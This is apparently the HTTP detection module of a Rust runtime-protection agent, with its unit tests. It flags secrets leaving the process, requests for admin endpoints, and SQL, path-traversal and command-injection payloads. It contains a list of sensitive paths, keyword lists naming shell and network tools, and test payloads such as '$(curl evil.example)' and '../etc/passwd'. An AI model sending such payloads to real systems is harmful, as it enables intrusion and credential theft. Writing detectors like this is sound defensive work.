//! Detections over TLS plaintext and parsed HTTP requests: secrets and personal data leaving
//! the process (the masking layer's scanner on outbound bytes), requests for internal admin
//! paths, and injection payloads in parameters. Each finding carries a masked sample only.

use crate::detect::http::parse::{HttpRequest, ParamSource};
use crate::mask::{Masker, SecretKind, SecretScanner, SecretSpan};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize)]
#[serde(tag = "finding", content = "secret", rename_all = "snake_case")]
pub enum HttpFindingKind {
    /// A secret or personal data in outbound plaintext.
    SecretLeaving(SecretKind),
    AdminPath,
    SqlInjection,
    PathTraversal,
    CommandInjection,
}

#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct HttpFinding {
    pub kind: HttpFindingKind,
    /// Where it was: a parameter name, `path`, or none for raw plaintext.
    pub param: Option<String>,
    pub source: Option<ParamSource>,
    /// Masked evidence: never the secret itself.
    pub sample: String,
}

/// Secrets leaving: scans outbound plaintext (requests a client sends, responses a server
/// sends) with the masking layer's scanner.
#[derive(Debug, Clone)]
pub struct SecretLeakDetector {
    scanner: SecretScanner,
    masker: Masker,
    /// Bit per `SecretKind` reported.
    kinds: u32,
    /// Bytes of a chunk scanned (the capture bound usually bites first).
    max_scan: usize,
}

impl Default for SecretLeakDetector {
    /// Reports the kinds recognised by their own format (keys, tokens, cards, IBANs), not
    /// `password=`-style pairs and e-mail addresses, which every login form and every web
    /// page sends legitimately.
    fn default() -> Self {
        let kinds = SecretKind::ALL
            .iter()
            .filter(|k| k.is_structured())
            .fold(0, |acc, k| acc | 1 << (*k as u32));
        SecretLeakDetector {
            scanner: SecretScanner::new(),
            masker: Masker::default(),
            kinds,
            max_scan: 64 * 1024,
        }
    }
}

impl SecretLeakDetector {
    /// Only these kinds are reported.
    pub fn with_kinds(kinds: &[SecretKind]) -> Self {
        SecretLeakDetector {
            kinds: kinds.iter().fold(0, |acc, k| acc | 1 << (*k as u32)),
            ..Self::default()
        }
    }

    pub fn reports(&self, kind: SecretKind) -> bool {
        self.kinds & (1 << (kind as u32)) != 0
    }

    /// Findings in one outbound chunk; one per kind (the first), so a dump of a million cards
    /// is one finding per chunk, not a million.
    pub fn scan_outbound(&self, plaintext: &[u8]) -> Vec<HttpFinding> {
        self.scan_from(plaintext, 0)
    }

    /// As `scan_outbound` for consecutive chunks of one connection's direction: the tail of
    /// the previous chunk is scanned again with this one, so a key split by two `SSL_write`s
    /// is still found; finds wholly inside that tail were reported last time.
    pub fn scan_outbound_stream(&self, carry: &mut LeakCarry, chunk: &[u8]) -> Vec<HttpFinding> {
        let chunk = &chunk[..chunk.len().min(self.max_scan)];
        let tail_len = carry.tail.len();
        carry.tail.extend_from_slice(chunk);
        let findings = self.scan_from(&carry.tail, tail_len);
        let keep = carry.tail.len().min(LeakCarry::TAIL);
        carry.tail.drain(..carry.tail.len() - keep);
        findings
    }

    /// Scans `bytes`, reporting finds that end past `reported_up_to`.
    fn scan_from(&self, bytes: &[u8], reported_up_to: usize) -> Vec<HttpFinding> {
        let bytes = &bytes[..bytes.len().min(self.max_scan + LeakCarry::TAIL)];
        // Lossy decoding keeps byte offsets only for valid UTF-8; where it replaced bytes the
        // offset test is approximate, which at worst repeats a finding.
        let text = String::from_utf8_lossy(bytes);
        let mut spans: Vec<SecretSpan> = Vec::new();
        self.scanner.scan_into(&text, &mut spans);
        let mut seen = 0u32;
        let mut out = Vec::new();
        for s in spans {
            let bit = 1 << (s.kind as u32);
            if self.kinds & bit == 0 || seen & bit != 0 || s.end <= reported_up_to {
                continue;
            }
            seen |= bit;
            out.push(HttpFinding {
                kind: HttpFindingKind::SecretLeaving(s.kind),
                param: None,
                source: None,
                sample: self.masker.sample(s.kind, &text[s.start..s.end]),
            });
        }
        out
    }
}

/// The end of the previous chunk, per connection direction (see `scan_outbound_stream`).
#[derive(Debug, Clone, Default)]
pub struct LeakCarry {
    tail: Vec<u8>,
}

impl LeakCarry {
    /// Longer than every structured secret but PEM bodies (a GitHub fine-grained token is 93
    /// bytes, a JWT a few hundred), and than a PEM header, so a split block is still seen.
    const TAIL: usize = 512;
}

/// Admin and internal endpoints an outside client has no business requesting; each is where
/// a framework or server exposes configuration, credentials, heap dumps or code.
pub const DEFAULT_ADMIN_PATHS: &[&str] = &[
    "/admin",           // generic admin consoles (Django admin, many CMSs)
    "/actuator",        // Spring Boot: env (secrets), heapdump, shutdown
    "/.env",            // dotenv files: database passwords, API keys
    "/.git/",           // an exposed repository: source and history
    "/server-status",   // Apache mod_status: client addresses and URLs in flight
    "/server-info",     // Apache mod_info: full configuration
    "/phpmyadmin",      // database administration
    "/wp-admin",        // WordPress administration
    "/debug/pprof",     // Go pprof: heap and goroutine dumps
    "/debug/vars",      // Go expvar: command line, memory stats
    "/metrics",         // Prometheus metrics: internal topology, sometimes labels with PII
    "/manager/html",    // Tomcat manager: deploys WARs
    "/jolokia",         // JMX over HTTP: remote code execution in many setups
    "/console",         // H2, WebLogic, Rails web-console
    "/_profiler",       // Symfony profiler: request dumps with secrets
    "/telescope",       // Laravel Telescope: request and query logs
    "/graphql/console", // interactive GraphQL consoles
    "/swagger-ui",      // API explorer: documents internal endpoints
    "/config.json",     // front-end or app config dumps
    "/.aws/credentials",
    "/.ssh/",
];

/// Checks a parsed request: admin paths and injection payloads in its path and parameters.
#[derive(Debug, Clone)]
pub struct RequestInspector {
    /// Lower-cased prefixes.
    admin_paths: Vec<String>,
    masker: Masker,
    /// Bytes of a parameter value inspected.
    max_value: usize,
}

impl Default for RequestInspector {
    fn default() -> Self {
        Self::new(DEFAULT_ADMIN_PATHS.iter().copied())
    }
}

impl RequestInspector {
    pub fn new<'a>(admin_paths: impl IntoIterator<Item = &'a str>) -> Self {
        RequestInspector {
            admin_paths: admin_paths
                .into_iter()
                .map(|p| p.to_ascii_lowercase())
                .collect(),
            masker: Masker::default(),
            max_value: 2048,
        }
    }

    /// The admin prefix `path` falls under, matched on whole segments (`/admin` matches
    /// `/admin` and `/admin/users`, not `/administrator-guide.html`).
    pub fn admin_path(&self, path: &str) -> Option<&str> {
        // Repeated slashes and `/./` are normalised by servers; an attacker uses them to slip
        // past naive prefix checks. Most paths have neither: no copy then.
        let normalised;
        let normal = if path.contains("//") || path.contains("/./") || path.ends_with("/.") {
            normalised = normalise_path(&path.to_ascii_lowercase());
            normalised.as_str()
        } else {
            path
        };
        self.admin_paths
            .iter()
            .find(|p| {
                normal
                    .as_bytes()
                    .get(..p.len())
                    .is_some_and(|head| head.eq_ignore_ascii_case(p.as_bytes()))
                    && (p.ends_with('/')
                        || matches!(
                            normal.as_bytes().get(p.len()),
                            None | Some(b'/' | b'?' | b'.' | b';')
                        ))
            })
            .map(String::as_str)
    }

    pub fn inspect(&self, req: &HttpRequest) -> Vec<HttpFinding> {
        let mut out = Vec::new();
        if self.admin_path(&req.path).is_some() {
            out.push(HttpFinding {
                kind: HttpFindingKind::AdminPath,
                param: Some("path".into()),
                source: None,
                sample: self.masker.mask_str(&req.path).into_owned(),
            });
        }
        let encoded_target = req.raw_target.contains('%') || req.raw_target.contains('\\');
        if is_traversal(&req.path)
            || encoded_target && is_traversal(&req.raw_target.to_ascii_lowercase())
        {
            out.push(HttpFinding {
                kind: HttpFindingKind::PathTraversal,
                param: Some("path".into()),
                source: None,
                sample: self.masker.mask_str(&req.raw_target).into_owned(),
            });
        }
        for (source, name, value) in req.params() {
            let value = &value[..floor_char_boundary(value, self.max_value)];
            for kind in classify_payload(value) {
                out.push(HttpFinding {
                    kind,
                    param: Some(name.to_owned()),
                    source: Some(source),
                    sample: self.masker.mask_str(value).into_owned(),
                });
            }
        }
        out
    }
}

fn floor_char_boundary(s: &str, max: usize) -> usize {
    let mut cut = max.min(s.len());
    while !s.is_char_boundary(cut) {
        cut -= 1;
    }
    cut
}

fn normalise_path(path: &str) -> String {
    let mut out = String::with_capacity(path.len());
    for seg in path.split('/') {
        if seg.is_empty() || seg == "." {
            continue;
        }
        out.push('/');
        out.push_str(seg);
    }
    if path.ends_with('/') || out.is_empty() {
        out.push('/');
    }
    out
}

/// What injection a parameter value looks like. Cheap tell-tales on a normalised copy
/// (lower case, SQL comments and whitespace runs as one space); the SQL analyzer and the
/// taint link give the confirmed verdicts, these flag attempts at the edge.
pub fn classify_payload(value: &str) -> Vec<HttpFindingKind> {
    let mut kinds = Vec::new();
    // Benign values (names, numbers, ids) have none of these bytes: skip all work.
    if !value.bytes().any(|b| {
        matches!(
            b,
            b'\''
                | b'"'
                | b'='
                | b'.'
                | b'%'
                | b';'
                | b'|'
                | b'`'
                | b'$'
                | b'&'
                | b'('
                | b'-'
                | b'#'
                | b'\\'
                | b'/'
        )
    }) {
        return kinds;
    }
    let norm = normalise_payload(value);
    if is_sqli(&norm) {
        kinds.push(HttpFindingKind::SqlInjection);
    }
    if is_traversal(&norm) {
        kinds.push(HttpFindingKind::PathTraversal);
    }
    if is_command_injection(&norm) {
        kinds.push(HttpFindingKind::CommandInjection);
    }
    kinds
}

fn normalise_payload(value: &str) -> String {
    let lower = value.to_ascii_lowercase();
    let b = lower.as_bytes();
    let mut out = String::with_capacity(b.len());
    let mut i = 0;
    let mut space = false;
    while i < b.len() {
        // `/**/` and `/*!...*/` stand in for spaces in filter evasion.
        if b[i] == b'/' && b.get(i + 1) == Some(&b'*') {
            let end = lower[i + 2..].find("*/").map_or(b.len(), |e| i + 2 + e + 2);
            i = end;
            space = true;
            continue;
        }
        let c = b[i];
        if c.is_ascii_whitespace() {
            space = true;
        } else {
            if space && !out.is_empty() {
                out.push(' ');
            }
            space = false;
            // Char boundaries: pushing by byte keeps ASCII; non-ASCII bytes are copied whole
            // through the char path below.
            if c.is_ascii() {
                out.push(c as char);
            } else {
                let ch_len = lower[i..].chars().next().map_or(1, char::len_utf8);
                out.push_str(&lower[i..i + ch_len]);
                i += ch_len;
                continue;
            }
        }
        i += 1;
    }
    out
}

fn is_sqli(v: &str) -> bool {
    const ANYWHERE: &[&str] = &[
        "union select",
        "union all select",
        "union distinct select",
        "sleep(",
        "pg_sleep(",
        "benchmark(",
        "waitfor delay",
        "extractvalue(",
        "updatexml(",
        "information_schema",
        "pg_catalog",
        "@@version",
        "load_file(",
        "into outfile",
        "into dumpfile",
        "xp_cmdshell",
        "dbms_pipe",
        "utl_inaddr",
    ];
    if ANYWHERE.iter().any(|p| v.contains(p)) {
        return true;
    }
    // A quote that closes the string, then SQL: boolean logic, a comment or a new statement.
    for (q, _) in v.match_indices(['\'', '"']) {
        let after = v[q + 1..].trim_start_matches([')', ' ']);
        let closes = after.starts_with("--")
            || after.starts_with('#')
            || after.starts_with(';')
            || after.starts_with("/*");
        let logic = ["or ", "and ", "||", "&&", "xor "]
            .iter()
            .find(|op| after.starts_with(*op))
            .map(|op| &after[op.len()..]);
        // `' or '1'='1`, `' or 1=1`, `' and 1>0`, `' or true`: a comparison or constant
        // follows; `rock 'n' or roll` has words instead.
        let tautology = logic.is_some_and(|rest| {
            let head = &rest[..floor_char_boundary(rest, 24)];
            head.contains(['=', '<', '>'])
                || head
                    .starts_with(|c: char| c.is_ascii_digit() || c == '\'' || c == '"' || c == '(')
                || head.starts_with("true")
                || head.starts_with("not ")
                || head.contains(" like ")
                || head.contains("sleep(")
                || head.contains("select ")
        });
        if closes || tautology {
            return true;
        }
    }
    // Numeric context: `1 or 1=1`, `1; drop table`, `1 order by 5--`.
    let num = v.trim_start_matches(|c: char| c.is_ascii_digit());
    if num.len() < v.len() {
        let rest = num.trim_start();
        if (rest.starts_with("or ") || rest.starts_with("and ")) && rest.contains('=')
            || rest.starts_with(';')
            || rest.starts_with("--")
            || rest.starts_with("order by ") && rest.contains("--")
        {
            return true;
        }
    }
    false
}

fn is_traversal(v: &str) -> bool {
    // Every pattern below has a dot, a percent sign or a backslash, or names /etc or /proc.
    let special = v.bytes().any(|c| c == b'.' || c == b'%' || c == b'\\');
    if !special && !v.contains("/etc/") && !v.contains("/proc/") {
        return false;
    }
    v.contains("../")
        || v.contains("..\\")
        || v.contains("%2e%2e")
        || v.contains("..%2f")
        || v.contains("..%5c")
        || v.contains("%252e")
        || v.contains("/etc/passwd")
        || v.contains("/etc/shadow")
        || v.contains("/proc/self/")
        || v.contains("c:\\windows")
}

fn is_command_injection(v: &str) -> bool {
    if v.contains("$(") || v.contains("${ifs}") {
        return true;
    }
    if let Some(a) = v.find('`') {
        if v[a + 1..].contains('`') {
            return true;
        }
    }
    // A separator then a command: `; id`, `| cat /etc/passwd`, `&& curl …`.
    const COMMANDS: &[&str] = &[
        "id",
        "whoami",
        "uname",
        "cat ",
        "ls",
        "curl ",
        "wget ",
        "nc ",
        "ncat ",
        "bash",
        "sh ",
        "sh\n",
        "ping ",
        "sleep ",
        "rm ",
        "echo ",
        "python",
        "perl ",
        "php ",
        "nslookup ",
        "powershell",
        "cmd ",
    ];
    for sep in [";", "|", "&&", "\n", "||"] {
        for (p, _) in v.match_indices(sep) {
            let after = v[p + sep.len()..].trim_start();
            if COMMANDS.iter().any(|c| {
                after.starts_with(c)
                    && (c.ends_with(' ') || c.ends_with('\n') || {
                        // Bare words must end there: `; id` but not `; identity`.
                        let rest = &after[c.len()..];
                        rest.is_empty() || rest.starts_with([' ', ';', '|', '&', '`', ')'])
                    })
            }) {
                return true;
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::http::parse::{Direction, HttpMessage, HttpStream};

    fn request(raw: &[u8]) -> HttpRequest {
        let mut s = HttpStream::default();
        let mut out = Vec::new();
        s.feed(Direction::Inbound, raw, &mut out);
        out.into_iter()
            .find_map(|m| match m {
                HttpMessage::Request(r) => Some(r),
                _ => None,
            })
            .unwrap_or_else(|| panic!("no request in {raw:?}"))
    }

    #[test]
    fn outbound_secrets_found_once_per_kind_and_masked() {
        let d = SecretLeakDetector::default();
        let body = b"POST /upload HTTP/1.1\r\nContent-Length: 99\r\n\r\nkey=AKIAIOSFODNN7EXAMPLE&k2=AKIAI44QH8DHBEXAMPLE&card=4111111111111111&password=hunter2&mail=a@b.example.com";
        let f = d.scan_outbound(body);
        let kinds: Vec<_> = f.iter().map(|f| f.kind).collect();
        assert_eq!(
            kinds,
            [
                HttpFindingKind::SecretLeaving(SecretKind::AwsAccessKeyId),
                HttpFindingKind::SecretLeaving(SecretKind::PaymentCard)
            ]
        );
        assert_eq!(f[0].sample, "AKIA****************");
        assert_eq!(f[1].sample, "4111********1111");
        let all = serde_json::to_string(&f).unwrap_or_default();
        assert!(!all.contains("IOSFODNN7") && !all.contains("hunter2"));
        assert!(d
            .scan_outbound(b"HTTP/1.1 200 OK\r\n\r\n{\"ok\":true,\"id\":12345}")
            .is_empty());
        let only_pw = SecretLeakDetector::with_kinds(&[SecretKind::KeyValueSecret]);
        assert_eq!(only_pw.scan_outbound(body).len(), 1);
    }

    #[test]
    fn secrets_split_across_writes_are_found_once() {
        let d = SecretLeakDetector::default();
        let mut carry = LeakCarry::default();
        let msg = b"x-upload: AKIAIOSFODNN7EXAMPLE and more text after it to fill the chunk";
        let mut found = Vec::new();
        for (k, c) in msg.chunks(13).enumerate() {
            for f in d.scan_outbound_stream(&mut carry, c) {
                found.push((k, f.kind));
            }
        }
        assert_eq!(
            found,
            [(
                2,
                HttpFindingKind::SecretLeaving(SecretKind::AwsAccessKeyId)
            )]
        );
        assert!(carry.tail.len() <= LeakCarry::TAIL);
        for _ in 0..50 {
            assert!(d.scan_outbound_stream(&mut carry, &[b'z'; 100]).is_empty());
        }
        assert_eq!(carry.tail.len(), LeakCarry::TAIL);
    }

    #[test]
    fn serialized_requests_leave_masked() {
        let r = request(b"POST /login?token=abc123 HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 46\r\n\r\nuser=bob&password=hunter2&pan=4111111111111111");
        assert_eq!(r.form[1], ("password".into(), "hunter2".into()));
        assert_eq!(r.form[2], ("pan".into(), "4111111111111111".into()));
        let out = Masker::default()
            .to_masked_json(&r)
            .map(|v| v.to_string())
            .unwrap_or_default();
        assert!(out.contains(r#"{"user":"bob"}"#), "{out}");
        for secret in ["hunter2", "abc123", "4111111111111111"] {
            assert!(!out.contains(secret), "{secret} in {out}");
        }
    }

    #[test]
    fn admin_paths_on_segment_boundaries() {
        let i = RequestInspector::default();
        for p in [
            "/admin",
            "/admin/users",
            "/ADMIN",
            "//admin",
            "/./actuator/env",
            "/.env",
            "/.git/config",
            "/debug/pprof/heap",
            "/metrics",
        ] {
            assert!(i.admin_path(p).is_some(), "{p}");
        }
        for p in [
            "/",
            "/administrator-guide",
            "/api/admins",
            "/environment",
            "/gitlab",
            "/metricsdashboard",
            "/static/.envelope.png",
        ] {
            assert!(i.admin_path(p).is_none(), "{p}");
        }
        let f = i.inspect(&request(b"GET /actuator/env HTTP/1.1\r\n\r\n"));
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].kind, HttpFindingKind::AdminPath);
    }

    #[test]
    fn injection_payloads_in_parameters() {
        let i = RequestInspector::default();
        let cases: &[(&[u8], HttpFindingKind)] = &[
            (
                b"GET /items?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1\r\n\r\n",
                HttpFindingKind::SqlInjection,
            ),
            (
                b"GET /items?id=1+UNION/**/SELECT+password+FROM+users-- HTTP/1.1\r\n\r\n",
                HttpFindingKind::SqlInjection,
            ),
            (
                b"GET /items?q=x%27%3B+SELECT+pg_sleep(5)-- HTTP/1.1\r\n\r\n",
                HttpFindingKind::SqlInjection,
            ),
            (
                b"GET /items?name=admin%27-- HTTP/1.1\r\n\r\n",
                HttpFindingKind::SqlInjection,
            ),
            (
                b"GET /items?id=1%20or%201=1 HTTP/1.1\r\n\r\n",
                HttpFindingKind::SqlInjection,
            ),
            (
                b"GET /dl?file=..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1\r\n\r\n",
                HttpFindingKind::PathTraversal,
            ),
            (
                b"GET /dl?file=%252e%252e%252fetc HTTP/1.1\r\n\r\n",
                HttpFindingKind::PathTraversal,
            ),
            (
                b"GET /static/../../etc/passwd HTTP/1.1\r\n\r\n",
                HttpFindingKind::PathTraversal,
            ),
            (
                b"GET /ping?host=127.0.0.1%3Bid HTTP/1.1\r\n\r\n",
                HttpFindingKind::CommandInjection,
            ),
            (
                b"GET /ping?host=x%7Ccat+/etc/hosts HTTP/1.1\r\n\r\n",
                HttpFindingKind::CommandInjection,
            ),
            (
                b"GET /ping?host=$(curl+evil.example) HTTP/1.1\r\n\r\n",
                HttpFindingKind::CommandInjection,
            ),
            (
                b"GET /ping?host=%60whoami%60 HTTP/1.1\r\n\r\n",
                HttpFindingKind::CommandInjection,
            ),
        ];
        for (raw, want) in cases {
            let f = i.inspect(&request(raw));
            assert!(
                f.iter().any(|f| f.kind == *want),
                "{}: {f:?}",
                String::from_utf8_lossy(raw)
            );
        }
        let form = request(b"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 32\r\n\r\nuser=admin'--&password=hunter2xx");
        let f = i.inspect(&form);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].param.as_deref(), Some("user"));
        assert_eq!(f[0].source, Some(ParamSource::Form));
    }

    #[test]
    fn benign_parameters_do_not_fire() {
        let benign = [
            "hello world",
            "O'Brien",
            "rock 'n' roll",
            "Don't stop me now",
            "it's 5 o'clock",
            "a-b-c",
            "2024-01-01T10:00:00Z",
            "https://example.com/a/b?c=d",
            "price > 5 and < 10",
            "tom & jerry",
            "C# or F#",
            "id=42",
            "v1.2.3",
            "50% off",
            "./relative",
            "user@example.com",
            "rm -rf is dangerous",
            "select a plan",
            "he said \"or else\"",
        ];
        for b in benign {
            let k = classify_payload(b);
            assert!(k.is_empty(), "{b:?}: {k:?}");
        }
        let i = RequestInspector::default();
        assert!(i
            .inspect(&request(b"GET /search?q=O%27Brien&page=2 HTTP/1.1\r\n\r\n"))
            .is_empty());
    }

    #[test]
    fn arbitrary_values_never_panic() {
        let mut x: u64 = 88172645463325252;
        let alphabet = "'\" or1=-#;|`$()./\\%2eé\u{2028}unionselectidcat ";
        let chars: Vec<char> = alphabet.chars().collect();
        for _ in 0..3000 {
            let mut s = String::new();
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            for k in 0..(x % 60) {
                s.push(chars[((x >> (k % 50)) as usize + k as usize) % chars.len()]);
            }
            let _ = classify_payload(&s);
            let _ = RequestInspector::default().admin_path(&s);
        }
    }

    /// `cargo test --release -p rasp-agent --lib detect::http::secrets::tests::bench_request_path
    /// -- --ignored --nocapture`: ns per typical request through parse, inspect and the
    /// outbound leak scan (a measurement, not a timed assertion).
    #[test]
    #[ignore]
    fn bench_request_path() {
        let raw: &[u8] = b"POST /api/v1/orders?page=2&sort=created_at HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: application/json\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 38\r\n\r\nitem=1234&qty=2&note=leave+at+the+door";
        let inspector = RequestInspector::default();
        let leaks = SecretLeakDetector::default();
        let n = 20_000;
        let (mut parse_best, mut inspect_best, mut scan_best) = (f64::MAX, f64::MAX, f64::MAX);
        let mut findings = 0;
        for _ in 0..5 {
            let mut reqs = Vec::with_capacity(n);
            let t = std::time::Instant::now();
            for _ in 0..n {
                let mut s = HttpStream::default();
                let mut out = Vec::new();
                s.feed(Direction::Inbound, std::hint::black_box(raw), &mut out);
                reqs.extend(out.into_iter().filter_map(|m| match m {
                    HttpMessage::Request(r) => Some(r),
                    _ => None,
                }));
            }
            parse_best = parse_best.min(t.elapsed().as_nanos() as f64 / n as f64);
            assert_eq!(reqs.len(), n);
            let t = std::time::Instant::now();
            for r in &reqs {
                findings += inspector.inspect(std::hint::black_box(r)).len();
            }
            inspect_best = inspect_best.min(t.elapsed().as_nanos() as f64 / n as f64);
            let t = std::time::Instant::now();
            for _ in 0..n {
                findings += leaks.scan_outbound(std::hint::black_box(raw)).len();
            }
            scan_best = scan_best.min(t.elapsed().as_nanos() as f64 / n as f64);
        }
        println!(
            "{} B request: parse {parse_best:.0} ns, inspect {inspect_best:.0} ns, leak scan {scan_best:.0} ns (best of 5; findings {findings})",
            raw.len()
        );
        assert_eq!(findings, 0);
    }
}
